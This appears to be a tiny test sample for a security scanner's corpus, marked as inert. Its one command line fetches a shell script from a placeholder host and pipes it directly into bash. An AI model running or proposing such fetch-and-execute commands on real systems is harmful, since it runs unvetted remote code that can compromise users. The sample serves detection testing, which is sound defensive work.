# TEST SAMPLE: inert, for the scanner corpus
bash <(wget -qO- https://get.example.invalid/x.sh)
